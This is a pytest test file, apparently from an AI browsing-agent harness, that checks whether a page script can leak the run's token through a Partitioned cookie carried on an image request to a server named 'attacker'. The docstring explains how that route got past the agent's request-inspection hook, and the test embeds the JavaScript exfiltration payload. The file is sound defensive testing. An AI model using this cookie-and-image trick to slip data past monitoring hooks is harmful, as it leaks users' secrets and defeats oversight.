"""Partitioned (CHIPS) cookies and the route hook (session 19, browse31).

Chromium adds a partitioned cookie to a request after Playwright's route sees it: neither ``request.headers`` nor
``all_headers()`` holds it, so the hook judged a request without it. A page's script that wrote the run's data into
a partitioned cookie of its own (``document.cookie = 't=…; Secure; SameSite=None; Partitioned'``; ``Secure`` holds on
https, and on http://localhost) had it ride on a plain-path image the hook leaves to Chromium, unjudged. Now the
context's partitioned cookies for the address are judged as the cookie header is; the same script without
``Partitioned`` was refused already.

Real Chromium, the page and the receiving server on two ports of "localhost"; only the model is scripted."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from recording_server import RecordingServer, recording_servers
from test_browse17_cookies import _landing_headers
from test_browse19_cookies import _run
from test_flow_page_channels import TOKEN, _page, loopback_websockets

from gofer.events import RunStatus

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]

_COOKIE_THEN_IMAGE = ("(v.length === 24 && (document.cookie = 't=' + v + '; Path=/; SameSite=None; Secure{p}', "
                      "new Image().src = '{a}/landing'))")


@pytest.mark.usefixtures(loopback_websockets.__name__)
@pytest.mark.parametrize("partitioned", [False, True])
async def test_a_cookie_the_script_wrote_the_token_into_does_not_reach_a_plain_image(
        tmp_path: Path, partitioned: bool) -> None:
    site, attacker = RecordingServer(host="localhost"), RecordingServer(host="localhost")
    got = _landing_headers(attacker, "cookie")
    with recording_servers(site, attacker):
        site.pages["/page"] = _page(_COOKIE_THEN_IMAGE.format(p="; Partitioned" if partitioned else "",
                                                              a=attacker.url))
        status, _events = await _run(tmp_path, site, TOKEN)
        await asyncio.sleep(1)
    assert status == RunStatus.FINISHED
    assert not [c for c in got if TOKEN in c], got
